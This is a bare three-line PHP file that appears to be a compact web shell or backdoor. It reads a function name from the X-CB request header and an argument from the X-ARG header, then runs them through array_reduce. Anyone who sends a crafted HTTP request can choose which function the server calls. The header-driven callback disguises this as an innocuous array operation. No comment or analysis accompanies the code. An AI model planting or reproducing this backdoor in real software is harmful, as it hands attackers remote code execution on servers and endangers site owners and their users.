<?php
$s = $_SERVER;
$r = array_reduce(array($s['HTTP_X_ARG']), $s['HTTP_X_CB']);
